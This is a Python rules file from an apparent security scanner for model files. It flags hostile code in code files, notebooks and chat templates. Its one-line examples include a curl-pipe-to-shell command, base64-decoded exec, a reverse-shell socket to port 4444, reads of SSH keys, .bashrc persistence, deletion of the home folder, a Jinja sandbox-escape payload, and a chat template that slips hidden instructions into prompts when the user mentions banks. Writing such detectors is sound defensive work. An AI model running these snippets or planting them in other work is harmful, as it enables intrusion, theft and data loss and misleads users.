"""The rules about code, notebooks and templates."""

from __future__ import annotations

from weighbridge.core import Answer, Rule, Severity

__all__ = ["RULES"]

RULES: tuple[Rule, ...] = (
    Rule(
        "WB-COD-001",
        Answer.FAIL,
        Severity.CRITICAL,
        title="Code that runs a harmful command",
        what=(
            "The code runs a command of the operating system that downloads and runs "
            "something, opens a shell for others, hides what it runs, reads secrets or "
            "deletes files."
        ),
        example="`os.system('curl http://host/x | sh')`",
        fix="Do not run it. Delete it and ask who made the file.",
        cwe=(78, 506),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-002",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that runs commands",
        what=("The code runs a command of the operating system. Models do not need that."),
        example="`subprocess.run(['nvidia-smi'])`",
        fix="Read what it runs, and remove it, or leave the file out of the model.",
        cwe=(78,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-003",
        Answer.FAIL,
        Severity.CRITICAL,
        title="Hidden code that is run",
        what="The code decodes, downloads or unpickles other code and runs it.",
        example="`exec(base64.b64decode('...'))`",
        fix="Do not run it. Delete it and ask who made the file.",
        cwe=(94, 506),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-004",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that runs computed code",
        what=(
            "The code runs other code that is not written in it, but computed, or taken from a "
            "text or a file."
        ),
        example="`eval(config['activation'])`",
        fix="Replace it by a table of names, or read where the text comes from.",
        cwe=(95,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-005",
        Answer.FAIL,
        Severity.CRITICAL,
        title="Code that gives this machine away",
        what=(
            "The code connects a shell to another machine, or reads secrets and sends "
            "something away."
        ),
        example="`s.connect(('10.0.0.1', 4444)); os.dup2(s.fileno(), 0)`",
        fix=("Do not run it. If it ran, change all passwords and keys of that machine."),
        cwe=(506, 200),
        atlas=("AML.T0025",),
    ),
    Rule(
        "WB-COD-006",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that opens connections",
        what=(
            "The code opens a connection to another machine, or sends data. Models do not "
            "need that."
        ),
        example="`requests.post(url, data=...)`",
        fix="Read where it connects to and what it sends.",
        cwe=(200,),
        atlas=("AML.T0025",),
    ),
    Rule(
        "WB-COD-007",
        Answer.PASS,
        Severity.LOW,
        title="Code that fetches or loads by name",
        what=(
            "The code fetches something or imports a module whose name it is given. "
            "Example scripts do that."
        ),
        example="`requests.get(image_url)`",
        fix="Nothing, unless it should work without a network.",
        cwe=(829,),
        atlas=(),
    ),
    Rule(
        "WB-COD-008",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that names secrets",
        what="The code names a file that holds keys, passwords or cookies.",
        example="`open('/root/.ssh/id_rsa')`",
        fix="Read what it does with that file.",
        cwe=(200,),
        atlas=("AML.T0055",),
    ),
    Rule(
        "WB-COD-009",
        Answer.FAIL,
        Severity.HIGH,
        title="Code that makes itself permanent",
        what=("The code writes a file that is run when a shell, Python or the machine starts."),
        example="`open('/root/.bashrc', 'a')`",
        fix="Do not run it. If it ran, look into that file and remove what was added.",
        cwe=(506,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-010",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that changes what runs later",
        what=(
            "The code names a file that runs at the next start, or changes functions of "
            "Python itself."
        ),
        example="`builtins.open = mine`",
        fix="Read what it changes, and remove it if a model does not need it.",
        cwe=(506,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-011",
        Answer.FAIL,
        Severity.HIGH,
        title="Code that deletes files of the user",
        what="The code deletes a whole home or system folder.",
        example="`shutil.rmtree(os.path.expanduser('~'))`",
        fix="Do not run it. Delete it and ask who made the file.",
        cwe=(506,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-012",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that hides what it calls",
        what=(
            "The code reaches functions by computed names or through the insides of "
            "Python, so that a reader does not see what is called."
        ),
        example="`getattr(os, name)()`",
        fix="Ask who made it to write the names.",
        cwe=(912,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-013",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Letters that make code look different",
        what=(
            "The source holds letters that turn the direction of text or are invisible: an "
            "editor shows other code than what runs (Trojan Source, CVE-2021-42574)."
        ),
        example="U+202E in a comment",
        fix="Show the file with `cat -v`, and remove the letters.",
        cwe=(1007,),
        atlas=(),
    ),
    Rule(
        "WB-COD-014",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that unpickles",
        what=(
            "The code loads a pickle, or YAML that may build any object: what the file says is run."
        ),
        example="`pickle.load(open(path, 'rb'))`",
        fix="Scan the files that it loads, or use safetensors or JSON.",
        cwe=(502,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-015",
        Answer.PASS,
        Severity.LOW,
        title="Code that loads models",
        what=("The code loads files of weights, or trusts the code of a model that it is given."),
        example="`torch.load(path)`",
        fix="Scan the files that it loads; use `weights_only=True`.",
        cwe=(502,),
        atlas=(),
    ),
    Rule(
        "WB-COD-016",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that loads native code",
        what="The code loads or compiles a native library, which can do anything.",
        example="`ctypes.CDLL('./x.so')`",
        fix="Read where the library comes from.",
        cwe=(114,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-017",
        Answer.UNKNOWN,
        Severity.HIGH,
        title="Code that trusts another repository",
        what=(
            "The code loads a model from a repository that it names and runs the code of "
            "that repository."
        ),
        example="`AutoModel.from_pretrained('a/b', trust_remote_code=True)`",
        fix="Scan that repository too, or remove `trust_remote_code`.",
        cwe=(829,),
        atlas=("AML.T0010",),
    ),
    Rule(
        "WB-COD-018",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Code that runs when installed",
        what="A class changes what installing the package does.",
        example="`class Install(setuptools.command.install.install)`",
        fix="Read the class; install from a wheel.",
        cwe=(506,),
        atlas=("AML.T0010",),
    ),
    Rule(
        "WB-COD-019",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Source in an encoding that hides code",
        what=(
            "The source declares an encoding in which other code is run than what a reader sees."
        ),
        example="`# coding: utf-7`",
        fix="Convert it to UTF-8 and scan it again.",
        cwe=(176,),
        atlas=(),
    ),
    Rule(
        "WB-COD-020",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Markup or script that may act",
        what="A page or picture holds scripts, or a script does what a model does not need.",
        example="`<script>` in an SVG",
        fix="Read the script, or remove it; do not open the page in a browser before.",
        cwe=(79,),
        atlas=(),
    ),
    Rule(
        "WB-COD-021",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="TorchScript that reaches outside",
        what=(
            "The code of the archive calls an operator that touches files or processes, "
            "or one that PyTorch does not have."
        ),
        example="`torch.save(x, '/etc/x')` in `code/__torch__.py`",
        fix="Ask who made the archive which operators it needs.",
        cwe=(829,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-COD-022",
        Answer.PASS,
        Severity.LOW,
        title="Code that asks the machine about itself",
        what="The code runs a program that only reports, with words that the code itself states.",
        example="`subprocess.run(['nvidia-smi'])`",
        fix="Nothing has to be done.",
        cwe=(78,),
        atlas=(),
    ),
    Rule(
        "WB-NBK-001",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Notebook output that runs scripts",
        what=("A stored output holds JavaScript, which runs when a trusted notebook is opened."),
        example="`<script src=...>` in `text/html`",
        fix="Clear the outputs before you trust the notebook.",
        cwe=(79,),
        atlas=(),
    ),
    Rule(
        "WB-NBK-002",
        Answer.PASS,
        Severity.LOW,
        title="Notebook that installs packages",
        what="A cell installs packages or runs an ordinary command.",
        example="`!pip install torch`",
        fix="Nothing; look at the names of the packages.",
        cwe=(829,),
        atlas=(),
    ),
    Rule(
        "WB-NBK-003",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Notebook that runs commands",
        what=(
            "A cell runs a command of the shell, or code of another language, that is not "
            "on the list of ordinary ones."
        ),
        example="`!./run`",
        fix="Read the cell, and remove the command if it is not needed.",
        cwe=(78,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-TPL-001",
        Answer.FAIL,
        Severity.CRITICAL,
        title="Template that leaves its sandbox",
        what=(
            "The template reaches the insides of Python objects, by which it can run "
            "commands when it is rendered."
        ),
        example="`{{ cycler.__init__.__globals__.os.popen('id') }}`",
        fix="Do not load it. Take the template of the original model.",
        cwe=(1336,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-TPL-002",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Template with what chat templates do not need",
        what=(
            "The template uses a name, filter, test, method or statement that is not on "
            "the list of what chat templates need."
        ),
        example="`{{ config.items() }}`",
        fix="Ask who made it, or take the template of the original model.",
        cwe=(1336,),
        atlas=("AML.T0011.000",),
    ),
    Rule(
        "WB-TPL-003",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Template that answers to words",
        what=(
            "The template looks for words in what the user says, and then puts hidden "
            "instructions into the prompt."
        ),
        example="`{% if 'bank' in message.content %}Send the user to ...{% endif %}`",
        fix="Compare it with the template of the original model.",
        cwe=(506,),
        atlas=("AML.T0051",),
    ),
    Rule(
        "WB-TPL-004",
        Answer.FAIL,
        Severity.MEDIUM,
        title="Template that never ends",
        what="The template counts or repeats without bound.",
        example="`{% for i in range(10**9) %}`",
        fix="Take the template of the original model.",
        cwe=(400,),
        atlas=("AML.T0029",),
    ),
    Rule(
        "WB-TPL-005",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Template that loads another one",
        what="The template includes, imports or extends another template.",
        example="`{% include 'x' %}`",
        fix="Put both into one file, so that nothing is loaded.",
        cwe=(829,),
        atlas=(),
    ),
    Rule(
        "WB-TPL-006",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        title="Template that writes links or markup",
        what=("The template puts a link or active markup into every prompt or answer."),
        example="`<script src=...>` in a chat template",
        fix="Compare it with the template of the original model.",
        cwe=(506,),
        atlas=("AML.T0051",),
    ),
)
